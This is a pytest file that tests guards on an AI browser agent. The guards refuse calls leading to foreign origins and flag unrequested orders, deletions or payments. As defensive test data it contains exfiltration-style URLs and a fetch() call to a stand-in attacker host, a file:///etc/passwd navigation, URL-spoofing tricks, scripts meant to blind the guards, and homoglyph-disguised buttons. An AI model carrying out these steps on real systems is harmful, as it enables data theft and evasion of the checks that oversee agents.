"""The guards ``origins`` and ``confirm``, asked about calls on pages."""

from __future__ import annotations

import asyncio
import inspect
import json
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest
from pydantic import ValidationError

from pytest_browsereval.capture.context import CaptureContext, CaptureContextConfig
from pytest_browsereval.config.guard import GuardConfig, GuardedCall
from pytest_browsereval.features.guards.confirm import ConfirmGuard
from pytest_browsereval.features.guards.origins import OriginsGuard
from pytest_browsereval.model.messages import ToolResultMessage
from pytest_browsereval.model.tasks import Task
from pytest_browsereval.tools.base import SetsOff
from pytest_browsereval.tools.foreign import guess_sets_off
from pytest_browsereval.tools.toolkits import CATALOG
from tests.hooks.small_evals import Evals, row
from tests.support import StillWindow, Visit, Visits

EVIL = "http://evil.localhost:9"


def _flag(name: str) -> SetsOff:
    """Return what a tool says of itself, and what is guessed of one of a server."""
    known = {tool.name: tool for kit in CATALOG.values() for tool in kit.tools}
    return known[name].sets_off if name in known else guess_sets_off(name)


def ask(
    guard: GuardConfig, opened: Visit, tool: str, *, query: str = "Look at the shop.", **arguments: Any
) -> Any:
    """Return what a guard says of a call on the page that is open."""
    task = Task(query_id="a", query=query, dataset="unit", graders=["answer"], start_url=opened.window.url)
    sites = {"other": "http://other.localhost:9", "attacker": EVIL}
    known = opened.tools._tools.get(tool)
    values = known.check_arguments(arguments) if known else arguments
    call = GuardedCall(tool, values, task, opened.window, opened.capture, (guard,), sites, _flag(tool))
    return _wait(opened, guard, call)


def _wait(opened: Visit, guard: GuardConfig, call: GuardedCall) -> str | None:
    async def check() -> str | None:
        found = guard.check(call)
        return await found if inspect.isawaitable(found) else found

    return opened.run(check())


ALLOWED: dict[str, tuple[str, dict[str, Any]]] = {
    "relative": ("navigate", {"url": "/cart"}),
    "another site of the row": ("navigate", {"url": "http://other.localhost:9/x"}),
    "an empty page": ("navigate", {"url": "about:blank"}),
    "a link of the page": ("click", {"target": "text=Cart"}),
    "a foreign address that is typed": ("fill", {"target": "label=Voucher", "text": EVIL}),
    "an answer": ("done", {"answer": EVIL}),
    "a look": ("snapshot", {}),
    "nothing there": ("click", {"target": "text=Missing"}),
}
REFUSED: dict[str, tuple[str, dict[str, Any]]] = {
    "an address": ("navigate", {"url": f"{EVIL}/collect?x=4111"}),
    "in a new tab": ("open_tab", {"url": EVIL}),
    "a user that looks like a host": ("navigate", {"url": "http://shop.example@evil.localhost:9/"}),
    "a script": ("evaluate", {"expression": f"fetch('{EVIL}/x')"}),
    "a link": ("click", {"target": "text=Prize"}),
    "within a link": ("click", {"target": "css=#inner"}),
    "a form": ("click", {"target": "text=Send it"}),
    "Enter": ("press_key", {"target": "label=Voucher", "key": "Enter"}),
    "a tool of a server": ("browser_tabs", {"tabs": [{"url": EVIL}], "note": f"see {EVIL}/x"}),
}
PAGE = f"""<a href="/cart">Cart</a> <a href="{EVIL}/prize">Prize <b id="inner">now</b></a>
<form action="{EVIL}/collect"><input aria-label="Voucher"><button>Send it</button></form>"""


def check_refused(opened: Visit, cases: Mapping[str, tuple[str, dict[str, Any]]]) -> None:
    """Check that the calls are refused, and that each is done where the other origin is allowed."""
    passes = OriginsGuard(allow=("*.localhost",))
    for case, (tool, given) in cases.items():
        assert "evil.localhost:9" in (ask(OriginsGuard(), opened, tool, **given) or ""), case
        assert ask(passes, opened, tool, **given) is None, case


def test_origins_refuses_what_leads_to_another_one(visit: Visits) -> None:
    """To the attacker's too, though that is a site of the config; a file of the machine is of none."""
    opened = visit(PAGE)
    check_refused(opened, REFUSED)
    said = ask(OriginsGuard(allow=("*",)), opened, "navigate", url="file:///etc/passwd")
    assert said == "file:// is not among the allowed origins."
    opened.limit(action_s=0.2)
    for case, (tool, given) in ALLOWED.items():
        assert ask(OriginsGuard(), opened, tool, **given) is None, case


def test_origins_lets_an_agent_leave_a_foreign_page(visit: Visits) -> None:
    """Where a page has led to one, nothing is read or done on it, and the way back is open."""
    opened = visit("<button>Go</button>")
    home = opened.window.url
    opened.output("navigate", url=home.replace("127.0.0.1", "localhost"))
    task = Task(query_id="a", query="Look.", dataset="unit", graders=["answer"], start_url=home)

    def check(tool: str, **arguments: Any) -> Any:
        call = GuardedCall(tool, arguments, task, opened.window, opened.capture, (), {}, _flag(tool))
        return _wait(opened, OriginsGuard(), call)

    for said in (check("read_text"), check("click", target="text=Go"), check("type_keys", text="x")):
        assert str(said).startswith("the current page, http://localhost:")
    assert check("go_back") is check("navigate", url=home) is check("done", answer="x") is None


AROUND: dict[str, tuple[str, dict[str, Any]]] = {
    "a backslash before the at sign": ("navigate", {"url": f"{EVIL}\\@127.0.0.1/x"}),
    "backslashes in the place of slashes": ("open_tab", {"url": "/\\evil.localhost:9/x"}),
    "a tab in it": ("navigate", {"url": " ht\ttp:/\\evil.localhost:9/x"}),
    "an allowed address beside it": (
        "click",
        {"target": "css=a:not([title='http://other.localhost:9/'])#prize"},
    ),
    "a link of a drawing": ("click", {"target": "css=#drawn"}),
    "a map on a picture": ("click", {"target": "css=#map"}),
    "the label of a button": ("click", {"target": "css=#for"}),
    "what a shadow tree shows within a link": ("click", {"target": "css=#slotted"}),
    "a link that fills what is clicked": ("click", {"target": "css=#outer"}),
    "a request that a click sends": ("click", {"target": "css=#ping"}),
    "a form whose fields hide its own": ("click", {"target": "css=#clobber button"}),
    "a drag that ends where it began": ("drag", {"source": "text=Prize", "target": "text=Prize"}),
}
TRICKY = f"""<a id="prize" href="{EVIL}/prize">Prize</a> <label for="q">Name</label><input id="q">
<svg width="90" height="20"><a id="drawn" href="{EVIL}/x"><text y="15">Drawn</text></a></svg>
<img id="map" usemap="#m" width="40" height="40"><map name="m"><area coords="0,0,40,40" href="{EVIL}/x"></map>
<label id="for" for="far">Far</label><form action="{EVIL}/x"><input id="far" type="submit" hidden></form>
<p id="host"><em id="slotted">Slotted</em></p>
<div id="outer"><a href="{EVIL}/x" style="display: block; height: 40px">Wide</a></div>
<a id="ping" href="/cart" ping="{EVIL}/x">Counted</a>
<form id="clobber" action="{EVIL}/x"><input name="action"><input name="elements"><button>Go</button></form>
<script>
  const host = document.getElementById("host").attachShadow({{mode: "open"}});
  host.innerHTML = '<a href="{EVIL}/x"><slot></slot></a>';
</script>"""


def test_origins_sees_where_an_address_or_a_click_leads(visit: Visits) -> None:
    """Addresses are read as browsers do, and clicks as they land: in drawings, labels, shadow trees."""
    opened = visit(TRICKY)
    check_refused(opened, AROUND)
    assert ask(OriginsGuard(), opened, "click", target="css=label[for=q]") is None


AIMED: tuple[tuple[str, dict[str, Any]], ...] = (
    ("click", {"target": "css=iframe >>> text=Go"}),
    ("click", {"target": "css=iframe"}),
    ("fill", {"target": "css=iframe >>> css=input", "text": "x"}),
    ("read_text", {"target": "css=iframe >>> css=body"}),
    ("read_text", {"target": "iframe >> internal:control=enter-frame >> body"}),
    ("click_at", {"x": 50, "y": 50}),
    ("type_keys", {"text": "x"}),
)
FRAMED = "<iframe style='position: fixed; left: 0; top: 0; width: 200px; height: 200px'></iframe>"


def test_origins_refuses_what_is_aimed_at_a_foreign_frame(visit: Visits) -> None:
    """As on a foreign page; in a frame of an allowed origin it is done, and so is what looks at the page."""
    opened = visit(FRAMED)
    home = opened.window.url

    def put(address: str) -> None:
        opened.js(f"document.querySelector('iframe').src = {address!r}")
        frame = opened.window.page.frames[1]
        opened.run(frame.wait_for_url(address))
        body = "<input><button style='position: fixed; inset: 0'>Go</button>"
        opened.run(frame.evaluate("(body) => { document.body.innerHTML = body }", body))
        opened.run(frame.focus("input"))

    def find_refused() -> list[str]:
        said = [ask(OriginsGuard(), opened, tool, **given) or "" for tool, given in AIMED]
        return [reason for reason in said if reason.startswith("it is in a frame of http://localhost:")]

    put(home.replace("127.0.0.1", "localhost"))
    assert len(find_refused()) == len(AIMED)
    assert ask(OriginsGuard(), opened, "snapshot") is None
    put(home)
    assert find_refused() == []


BLINDING = """
Object.defineProperty(HTMLElement.prototype, 'innerText', {get: () => 'Show'});
for (const kind of [HTMLAnchorElement, HTMLFormElement])
  for (const name of ['href', 'action', 'elements', 'localName'])
    Object.defineProperty(kind.prototype, name, {get: () => 'http://127.0.0.1/'});
Element.prototype.getAttribute = Element.prototype.closest = () => '';
Element.prototype.matches = () => false;
Object.defineProperty(Node.prototype, 'parentElement', {get: () => null});
document.elementFromPoint = getComputedStyle = () => { throw 1 };
Array.prototype.push = Array.prototype.map = Array.prototype.filter = () => 0;
JSON.stringify = () => '{}';
"""
"""What a page may replace in its own world."""
BLIND = f"""<div id=a><a href="{EVIL}/x" style="position: fixed; left: 0; top: 0">Order now</a></div>
<form id=b action="{EVIL}/x"><input aria-label=Voucher><input name=parentElement><input name=matches>
<img name=elementFromPoint><button>Order</button></form>"""
AIMS: tuple[tuple[str, dict[str, Any]], ...] = (
    ("click", {"target": "css=a"}),
    ("click", {"target": "text=Order now"}),
    ("click_at", {"x": 10, "y": 10}),
    ("click", {"target": "css=button"}),
    ("press_key", {"target": "label=Voucher", "key": "Enter"}),
)


def test_a_page_cannot_blind_guards(visit: Visits) -> None:
    """Whatever it replaces in its own world: guards look with the browser's own methods, in frames too."""
    opened = visit(BLIND + f"<script>{BLINDING}</script>")
    framed = visit("<iframe style='position: fixed; inset: 0; width: 100%; height: 100%'></iframe>")
    page = json.dumps(BLIND + f"<script>{BLINDING}</script>")
    for place in (opened, framed):
        if place is framed:
            place.js(f"document.querySelector('iframe').srcdoc = {page}")
            place.run(place.window.page.frames[1].wait_for_selector("button"))
        for tool, given in AIMS:
            aim = dict(given)
            if place is framed and "target" in aim:
                aim["target"] = f"css=iframe >>> {aim['target']}"
            assert "may order" in ask(ConfirmGuard(), place, tool, **aim), (tool, aim)
            assert "evil.localhost:9" in ask(OriginsGuard(), place, tool, **aim), (tool, aim)


@pytest.mark.slow
def test_a_page_takes_no_attempt_out_of_the_rates(evals: Evals) -> None:
    """By scripts that break what guards look with: the call is refused, and the attempt counts."""
    (evals.path / "site").mkdir()
    (evals.path / "site/index.html").write_text(BLIND + f"<script>{BLINDING}</script>")
    steps = [{"tool": "click", "target": "css=button"}, {"tool": "done", "answer": "right"}]
    evals.write_rows(row("mug", query="Look.", start_url="{shop}/", solution=steps))
    sites = {"shop": {"static": "site"}}
    evals.write_config(agent="scripted", browser="playwright", sites=sites, guards=["confirm", "origins"])
    run = evals.run()
    assert (run.attempt("mug").verdict, run.summary["guards"]["by_guard"]) == ("failed", {"confirm": 1})


KEYS = """<button id=wipe>Delete all</button> <label>Note <input id=note></label>
<form><input id=voucher><button>Order now</button></form>
<select id=list><option>Show</option><option>Delete all</option><option>Hide</option></select>
<label><input type=radio name=r id=keep checked> Keep</label>
<label><input type=radio name=r> Delete it</label>
<div id=zone style="width: 90px; height: 40px"><span>Delete</span> zone</div><p id=item>Item</p>
<div id=pane onclick="0" title="Delete all"><p id=text contenteditable>Text</p></div>"""
PRESSED: tuple[tuple[str, dict[str, Any], str], ...] = (
    ("type_text", {"target": "css=#wipe", "text": " "}, ""),
    ("type_keys", {"text": " "}, "#wipe"),
    ("type_keys", {"text": "x \n"}, "#wipe"),
    ("press_key", {"key": "Space"}, "#wipe"),
    ("type_text", {"target": "css=#voucher", "text": "a\r"}, ""),
    ("type_keys", {"text": "a\r"}, "#voucher"),
    ("press_key", {"key": "ArrowDown", "target": "css=#list"}, ""),
    ("press_key", {"key": "d"}, "#list"),
    ("type_keys", {"text": "del"}, "#list"),
    ("press_key", {"key": "ArrowRight", "target": "css=#keep"}, ""),
    ("drag", {"source": "css=#item", "target": "css=#zone"}, ""),
)
QUIET: tuple[tuple[str, dict[str, Any], str], ...] = (
    ("type_text", {"target": "css=#note", "text": "delete all of it"}, ""),
    ("type_keys", {"text": "delete all"}, "#note"),
    ("type_keys", {"text": "a b"}, "#text"),
    ("press_key", {"key": "Tab"}, "#wipe"),
    ("press_key", {"key": "h"}, "#list"),
    ("drag", {"source": "css=#item", "target": "css=#note"}, ""),
)


def test_confirm_looks_at_keys_and_drops(visit: Visits) -> None:
    """A key sets off what it presses or chooses, a drag what it ends on; to type a text sets off nothing."""
    opened = visit(KEYS)

    def said(tool: str, given: dict[str, Any], focused: str) -> Any:
        if focused:
            opened.js(f"document.querySelector('{focused}').focus()")
        return ask(ConfirmGuard(), opened, tool, **given)

    missed = [case for case in PRESSED if "may" not in (said(*case) or "")]
    assert missed == []
    assert [(case, why) for case in QUIET if (why := said(*case))] == []


def test_a_wrong_pattern_is_refused() -> None:
    """Before the run: a path is more than an origin."""
    with pytest.raises(ValidationError, match="is not a pattern of origins"):
        OriginsGuard(allow=("http://a/b",))


RISKY: dict[str, tuple[str, dict[str, Any], str]] = {
    "its text": ("click", {"target": "text=Place order"}, "'Place order' may order"),
    "its name": ("click", {"target": "text=X"}, "'Delete account' may delete"),
    "a part of it": ("click", {"target": "css=#inner"}, "'Pay now' may pay"),
    "a picture": ("click", {"target": "css=a.picture"}, "'Remove item' may remove"),
    "the button that Enter presses": (
        "press_key",
        {"target": "label=Voucher", "key": "Enter"},
        "'Place order' may order",
    ),
    "Enter at the end of a text": ("type_text", {"target": "label=Voucher", "text": "x\n"}, "may order"),
    "a point": ("click_at", {"x": 20, "y": 20}, "'Publish' may publish"),
}
HARMLESS: dict[str, tuple[str, dict[str, Any]]] = {
    "other words": ("click", {"target": "text=Details"}),
    "a part of a word": ("click", {"target": "text=Reorder"}),
    "typing": ("fill", {"target": "label=Voucher", "text": "order"}),
    "a look": ("read_text", {"target": "text=Place order"}),
    "an answer": ("done", {"answer": "I did not order."}),
}
BUTTONS = """<button style="position:fixed;left:0;top:0;width:60px;height:40px">Publish</button><br><br><br>
<form><input aria-label="Voucher"><button>Place order</button></form>
<button aria-label="Delete account">X</button> <button>Pay <b id="inner">now</b></button>
<a class="picture" href="/x"><img alt="Remove item"></a> <button>Details</button> <button>Reorder</button>"""


def test_confirm_refuses_what_the_task_does_not_ask_for(visit: Visits) -> None:
    """By the words on what is set off; with one of the group in the query it is done."""
    opened, query = visit(BUTTONS), "Buy, delete and publish all that there is."
    for case, (tool, given, said) in RISKY.items():
        assert said in (ask(ConfirmGuard(), opened, tool, **given) or ""), case
        assert ask(ConfirmGuard(), opened, tool, query=query, **given) is None, case
    for case, (tool, given) in HARMLESS.items():
        assert ask(ConfirmGuard(), opened, tool, **given) is None, case
    own = ConfirmGuard(words=(("details",),))  # in the place of ours
    assert "may details" in ask(own, opened, "click", target="text=Details")
    assert ask(own, opened, "click", target="text=Place order") is None


DISGUISED = {
    "a hidden hyphen": "<button>Ord&shy;er now</button>",
    "a letter of no width": "<button>O&#8203;rder</button>",
    "wide letters": "<button>&#65343;&#65327;&#65330;&#65316;&#65317;&#65330;</button>",
    "letters of formulas": "<button>&#119822;&#119851;&#119837;&#119838;&#119851;</button>",
    "look-alike letters": "<button>&#1054;rd&#1077;r now</button>",
    "text of a style sheet": "<style>#after::after { content: 'Order' }</style><button id='after'></button>",
    "a label": "<label for='box'>Order now</label><input type='checkbox' id='box' data-aim>",
    "a label around": "<label>Order now <input type='checkbox' data-aim></label>",
    "what is called by a hand": "<div style='cursor: pointer'><b>Order</b> <i data-aim>now</i></div>",
    "a part that fills it": "<div data-aim><button style='width: 99%'>Order</button></div>",
    "plain text": "<p>Order</p>",
}
"""Each in a page of its own place: what is clicked is marked by `data-aim`, or is the last element."""


def test_confirm_reads_names_in_disguise(visit: Visits) -> None:
    """As a person reads them: letters that are not seen, or look like others, style sheets, labels."""
    pages = "".join(
        f"<section id='s{place}'>{page}</section>" for place, page in enumerate(DISGUISED.values())
    )
    opened = visit(pages)
    found = {}
    for place, case in enumerate(DISGUISED):
        aim = f"#s{place} [data-aim]" if "data-aim" in DISGUISED[case] else f"#s{place} > :last-child"
        found[case] = ask(ConfirmGuard(), opened, "click", target=f"css={aim}")
    assert {case for case, said in found.items() if not said} == set()
    query = "Please \u043erder a mug."  # one letter of it is Cyrillic
    assert ask(ConfirmGuard(), opened, "click", query=query, target="css=#s0 button") is None


def test_confirm_looks_at_choices(visit: Visits) -> None:
    """An option and a check box are compared by their names; to take a check off sets nothing off."""
    opened = visit(
        "<select aria-label='Order by'><option value='1'>Price</option><option value='2'>Order now</option>"
        "</select><label><input type='checkbox'>Subscribe</label>"
    )
    chosen = {"target": "css=select"}
    for value in ("2", "Order now"):
        assert "may order" in ask(ConfirmGuard(), opened, "select_option", value=value, **chosen)
    assert ask(ConfirmGuard(), opened, "select_option", value="1", **chosen) is None
    assert "may subscribe" in ask(ConfirmGuard(), opened, "check", target="label=Subscribe")
    assert ask(ConfirmGuard(), opened, "uncheck", target="label=Subscribe") is None


def test_confirm_reads_no_more_than_what_is_hit(visit: Visits) -> None:
    """The ground of a page is not called by all that stands on it, nor a link by its neighbours."""
    opened = visit(
        "<main role='main' tabindex='-1' style='height: 600px'><a href='#'>Details</a> <button>Order</button>"
        "<label for='n'>Order number</label><input id='n'></main>"
    )
    assert ask(ConfirmGuard(), opened, "click_at", x=400, y=300) is None
    assert ask(ConfirmGuard(), opened, "click", target="css=main") is None
    assert ask(ConfirmGuard(), opened, "click", target="text=Details") is None
    assert ask(ConfirmGuard(), opened, "click", target="css=#n") is None
    assert ask(ConfirmGuard(), opened, "click", target="text=Order number") is None


def test_confirm_reads_a_dialog(visit: Visits) -> None:
    """To accept it is risky by its message; to dismiss it is not."""
    opened = visit("<button onclick=\"confirm('Delete it?')\">Details</button>")
    opened.output("click", target="text=Details")
    assert "'Delete it?' may delete" in ask(ConfirmGuard(), opened, "handle_dialog", accept=True)
    assert ask(ConfirmGuard(), opened, "handle_dialog", accept=False) is None
    opened.output("handle_dialog", accept=False)


def test_what_a_call_and_the_log_say_where_no_page_can_be_read(tmp_path: Path) -> None:
    """In a browser that brings its own tools: its description of the element, not what is typed."""
    window = StillWindow("http://127.0.0.1/")
    task = Task(query_id="a", query="Look.", dataset="unit", graders=["answer"], start_url=window.url)
    capture = CaptureContext(CaptureContextConfig(tmp_path), window)
    snapshot = '- link "Go" [ref=e4]:\n  - /url: http://evil.localhost:9/x\n- button "Place order" [ref=e5]'
    capture.log(ToolResultMessage(tool_call_id="call-1", result={"output": snapshot}, is_error=False))

    def check(tool: str, guard: Any = None, **arguments: Any) -> Any:
        call = GuardedCall(tool, arguments, task, window, capture, (), {}, _flag(tool))
        return asyncio.run((guard or ConfirmGuard()).check(call))

    assert "may order" in str(check("browser_click", ref="e5"))
    assert check("browser_click", ref="e4") is None
    assert "it leads to http://evil.localhost:9" in str(check("browser_click", OriginsGuard(), ref="e4"))
    assert check("browser_click", OriginsGuard(), ref="e5") is None

    assert "may order" in str(check("browser_click", element="Place order button", ref="e2"))
    assert check("browser_click", element="Cart link", ref="e3") is None
    assert check("browser_type", element="Search", ref="e4", text="order") is None
    listed = {"element": "Order by", "ref": "e5"}
    assert check("browser_select_option", values=["Price"], **listed) is None
    assert "may order" in str(check("browser_select_option", values=["Order now"], **listed))
    assert "may send" in str(check("browser_type", element="Send to", text="x", submit=True))
    capture.close()


def test_each_point_key_and_option_of_a_call_is_looked_at(visit: Visits) -> None:
    """A call that does several things is refused for one of them."""
    opened = visit(
        "<style>button, div { position: fixed; left: 0; width: 100px; height: 50px; margin: 0 }</style>"
        "<button style='top:0'>Cart</button><button style='top:60px'>Order now</button>"
        "<div id=box style='top:60px;height:150px;z-index:-1'></div><select multiple style='position:fixed;"
        "top:300px'><option>Price<option>Order it</select><form style='position:fixed;top:500px'>"
        "<input id=i><button style='top:600px'>Send</button>"
    )
    risky: list[tuple[str, dict[str, Any]]] = [
        ("click_at", {"x": 20, "y": 20, "then": [[20, 30], [20, 80]]}),
        ("drag_at", {"path": [[20, 80], [300, 300], [300, 20]]}),
        ("drag_at", {"path": [[300, 20], [300, 300], [20, 80]]}),
        ("click", {"target": "#box", "position": [20, 20]}),
        ("drag", {"source": "text=Cart", "target": "#box", "to_position": [20, 20]}),
        ("select_option", {"target": "select", "values": ["Price", "Order it"]}),
        ("press_key", {"target": "#i", "keys": ["a", "Enter"]}),
    ]
    for tool, given in risky:
        assert " may " in str(ask(ConfirmGuard(), opened, tool, **given)), (tool, given)
    harmless: list[tuple[str, dict[str, Any]]] = [
        ("click_at", {"x": 20, "y": 20, "then": [[20, 30]]}),
        ("click", {"target": "#box", "position": [20, 140]}),
        ("select_option", {"target": "select", "values": ["Price"]}),
        ("press_key", {"target": "#i", "keys": ["a", "b"]}),
    ]
    for tool, given in harmless:
        assert ask(ConfirmGuard(), opened, tool, **given) is None, (tool, given)
